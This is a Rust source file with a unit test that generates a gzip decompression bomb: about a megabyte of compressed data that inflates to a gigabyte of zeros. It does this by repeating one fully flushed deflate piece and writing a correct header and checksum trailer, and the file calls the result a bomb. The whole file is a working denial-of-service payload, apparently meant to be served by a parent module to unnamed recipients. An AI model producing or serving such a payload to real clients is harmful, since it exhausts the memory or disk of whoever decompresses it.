//! A gigabyte of zeros as a megabyte of gzip.

use std::sync::OnceLock;

use flate2::{Compress, Compression, Crc, FlushCompress};

/// How many zeros it is.
pub(super) const SIZE: u64 = 1 << 30;
/// How many of them are compressed; the rest repeats that.
const PIECE: usize = 1 << 20;

/// One gzip member. Compressed pieces that end in a full flush can be put behind one another.
pub(super) fn gzip() -> &'static [u8] {
    static MADE: OnceLock<Vec<u8>> = OnceLock::new();
    MADE.get_or_init(|| {
        let zeros = vec![0_u8; PIECE];
        let mut piece = Vec::with_capacity(PIECE / 100);
        let (mut part, mut crc) = (Crc::new(), Crc::new());
        part.update(&zeros);
        // Deflate can't fail with room for what it writes; a bomb without powder would fail its test.
        let _ = Compress::new(Compression::best(), false).compress_vec(&zeros, &mut piece, FlushCompress::Full);
        let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
        for _ in 0..SIZE / PIECE as u64 {
            bytes.extend(&piece);
            crc.combine(&part);
        }
        // An empty last block, then the checksum and the size of it all.
        bytes.extend([0x03, 0x00]);
        bytes.extend(crc.sum().to_le_bytes());
        bytes.extend((SIZE as u32).to_le_bytes());
        bytes
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn it_inflates_to_a_gigabyte() {
        let bomb = gzip();
        assert!(bomb.len() < 2 << 20, "{}", bomb.len());
        let mut inflated = flate2::read::GzDecoder::new(bomb);
        let (mut buffer, mut size) = (vec![1_u8; 1 << 16], 0);
        loop {
            match inflated.read(&mut buffer).expect("gzip") {
                0 => break,
                n => size += n as u64,
            }
        }
        assert_eq!(size, SIZE);
    }
}
